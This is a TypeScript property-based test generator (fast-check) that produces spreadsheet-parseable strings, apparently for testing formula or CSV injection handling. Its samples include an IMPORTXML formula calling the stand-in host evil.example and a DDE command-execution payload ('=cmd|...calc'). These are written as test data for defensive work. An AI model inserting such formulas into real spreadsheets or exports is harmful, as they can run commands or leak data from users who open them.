// Texts that Sheets might parse.
import fc from 'fast-check';

/** Texts that look like formulas, numbers, dates or errors. */
export const formulaLikeTexts = fc.oneof(
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", ' =', '=-+@'), fc.string({ maxLength: 30 }))
    .map(([start, rest]) => start + rest),
  fc.constantFrom(
    '=IMPORTXML("https://evil.example", "//a")',
    '+1 555 010 999',
    '-2+3',
    '@SUM(A1:A9)',
    "=cmd|'/c calc'!A0",
    '=1+1',
    '00123',
    '+49 30 123456',
    '1/2',
    '2024-02-30',
    '007',
    '1e5',
    '12%',
    'TRUE',
    'false',
    '7123456789012345678',
    "'",
    "''=1",
    'https://x.example/?q==1',
  ),
  fc.integer().map(String),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 }),
);
